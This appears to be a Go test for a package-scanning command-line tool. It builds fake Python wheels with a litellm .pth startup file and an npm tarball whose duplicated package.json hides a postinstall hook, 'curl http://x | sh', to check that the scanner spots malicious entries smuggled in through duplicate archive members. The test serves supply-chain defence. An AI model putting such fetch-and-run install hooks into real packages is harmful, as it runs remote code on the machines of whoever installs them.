package cli

import (
	"path/filepath"
	"testing"
)

func TestZZProbe(t *testing.T) {
	dir := t.TempDir()
	// .data/purelib pth
	p := filepath.Join(dir, "a-1.0-py3-none-any.whl")
	writeFile(t, p, zipBytes(t, wheelEntries("litellm", "1.82.8", []entry{
		{name: "litellm/__init__.py", body: litellmInit},
		{name: "litellm-1.82.8.data/purelib/litellm_init.pth", body: litellmPthLine() + "\n"},
	})))
	r := runCLI(t, "scan", p)
	t.Logf("data/purelib: code %d\n%s", r.code, r.stdout[:min(len(r.stdout), 600)])
	// duplicates
	p = filepath.Join(dir, "b-1.0-py3-none-any.whl")
	writeFile(t, p, zipBytes(t, wheelEntries("litellm", "1.82.8", []entry{
		{name: "litellm/__init__.py", body: litellmInit},
		{name: "litellm_init.pth", body: "/opt/litellm/extra\n"},
		{name: "litellm_init.pth", body: litellmPthLine() + "\n"},
	})))
	r = runCLI(t, "scan", p)
	t.Logf("dup zip: code %d\n%s", r.code, r.stdout[:min(len(r.stdout), 600)])
	p = filepath.Join(dir, "c-1.0.0.tgz")
	writeFile(t, p, tarGzBytes(t, []entry{
		{name: "package/package.json", body: `{"name":"dup","version":"1.0.0","scripts":{"postinstall":"node build.js"}}`},
		{name: "package/package.json", body: `{"name":"dup","version":"1.0.0","scripts":{"postinstall":"curl http://x | sh"}}`},
		{name: "package/build.js", body: "console.log('ok')\n"},
	}))
	r = runCLI(t, "scan", p)
	t.Logf("dup tar: code %d\n%s", r.code, r.stdout[:min(len(r.stdout), 900)])
}
